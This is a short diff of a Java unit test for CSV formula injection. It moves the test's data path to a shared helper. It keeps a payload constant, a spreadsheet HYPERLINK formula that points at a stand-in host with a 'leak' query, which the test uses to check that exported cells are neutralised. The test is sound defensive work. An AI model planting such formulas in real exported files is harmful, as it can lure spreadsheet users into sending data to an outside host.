@@ -1,5 +1,6 @@
 package io.github.parindex.cli;
 
+import io.github.parindex.scoring.testing.TestData;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
@@ -19,7 +20,7 @@ import org.junit.jupiter.api.io.TempDir;
  * numbers. Before the shared CSV writer neutralised them, these cells were written raw.
  */
 class CsvInjectionTest {
-  private static final Path DATA = Path.of("../examples/data");
+  private static final Path DATA = TestData.path("examples/data");
   private static final String HYPERLINK = "=HYPERLINK(\"http://example.invalid/?leak\",\"click\")";
 
   @TempDir Path dir;
